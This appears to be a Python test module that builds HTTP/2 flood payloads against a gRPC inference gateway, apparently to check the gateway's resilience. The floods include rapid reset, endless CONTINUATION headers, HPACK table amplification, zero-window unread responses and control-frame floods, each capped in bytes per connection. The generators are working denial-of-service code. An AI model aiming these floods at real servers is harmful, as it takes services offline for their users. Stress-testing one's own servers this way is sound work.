"""Floods of the gateway's gRPC port: frames of HTTP/2, of which the client reads no answer."""

from collections.abc import Callable, Iterator
from itertools import count

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BYTES_MAX = 64 * 2**20  # of one connection
STREAMS = 100
_PART = b"a" * 2**14
_MESSAGE_BYTES = 2**18
_SERVICE = "/inference.GRPCInferenceService/"
_HEAD = {
    ":method": "POST",
    ":scheme": "http",
    ":authority": "gateway",
    "te": "trailers",
    "content-type": "application/grpc",
}
Frames = Iterator[Frame]


def _head(stream: int, method: str = "ModelInfer", *flags: str) -> HeadersFrame:
    block = Encoder().encode([(":path", _SERVICE + method), *_HEAD.items()])
    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags])


def _streams() -> Iterator[int]:
    return count(1, 2)


def _messages_without_end() -> Frames:
    streams = range(1, 2 * STREAMS, 2)
    for stream in streams:
        yield _head(stream)
        yield DataFrame(stream, b"\0" + _MESSAGE_BYTES.to_bytes(4, "big"))
    for _ in range(_MESSAGE_BYTES // len(_PART) - 1):
        for stream in streams:
            yield DataFrame(stream, _PART)


def _rapid_reset() -> Frames:
    for stream in _streams():
        yield _head(stream)
        yield RstStreamFrame(stream, error_code=8)


def _heads_without_message() -> Frames:
    yield from map(_head, _streams())


def _headers_without_end() -> Frames:
    yield HeadersFrame(1, Encoder().encode([*_HEAD.items()]))
    while True:
        yield ContinuationFrame(1, b"\x40\x7f\x81\x7f" + _PART[:-4])


def _headers_from_the_table() -> Frames:
    """Repeat one long entry of the table, of which each use takes one byte."""
    entry = Encoder().encode([(b"a", b"a" * 4_000)], huffman=False)
    for stream in _streams():
        yield HeadersFrame(stream, entry + b"\xbe" * 15_000, flags=["END_HEADERS"])
        entry = b""


def _unread_answers() -> Frames:
    yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    for stream in _streams():
        yield _head(stream, "ServerMetadata")
        yield DataFrame(stream, bytes(5), flags=["END_STREAM"])


def _repeated(frame: Frame) -> Callable[[], Frames]:
    return lambda: iter(lambda: frame, None)


def _parts(frames_of: Callable[[], Frames]) -> Callable[[], Iterator[bytes]]:
    """Join frames to parts of some size, up to the limit of a connection."""

    def parts() -> Iterator[bytes]:
        part = PREFACE + SettingsFrame().serialize()
        sent_bytes = 0
        for frame in frames_of():
            part += frame.serialize()
            if len(part) >= len(_PART):
                yield part
                sent_bytes += len(part)
                part = b""
            if sent_bytes >= BYTES_MAX:
                break
        yield part

    return parts


GRPC_FLOODS = {
    name: (connections, _parts(frames))
    for name, connections, frames in (
        ("messages without end", 8, _messages_without_end),
        ("rapid reset", 8, _rapid_reset),
        ("heads without message", 8, _heads_without_message),
        ("headers without end", 8, _headers_without_end),
        ("headers from the table", 8, _headers_from_the_table),
        ("unread answers", 8, _unread_answers),
        ("pings", 8, _repeated(PingFrame(0, b"12345678"))),
        ("settings", 8, _repeated(SettingsFrame(settings={4: 65_535}))),
        ("windows", 8, _repeated(WindowUpdateFrame(0, window_increment=1))),
        ("priorities", 8, _repeated(PriorityFrame(1, depends_on=0))),
    )
}
"""Connections and the parts that each of them sends, by name."""
